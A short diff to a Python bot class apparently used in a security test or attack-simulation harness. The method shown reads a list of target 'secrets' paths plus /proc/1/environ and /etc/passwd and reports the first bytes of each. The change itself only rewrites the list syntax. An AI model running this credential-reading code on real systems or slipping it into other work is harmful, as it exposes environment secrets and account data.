@@ -31,7 +31,7 @@ class Reads(Bot):
 
     def plant_second(self, view):
         t = targets()
-        for path in t.get("secrets", []) + ["/proc/1/environ", "/etc/passwd"]:
+        for path in [*t.get("secrets", []), "/proc/1/environ", "/etc/passwd"]:
             try:
                 data = Path(path).read_bytes() if Path(path).is_file() else os.listdir(path)
                 report(f"GOT {path}: {str(data)[:60]}" if data else f"empty {path}")
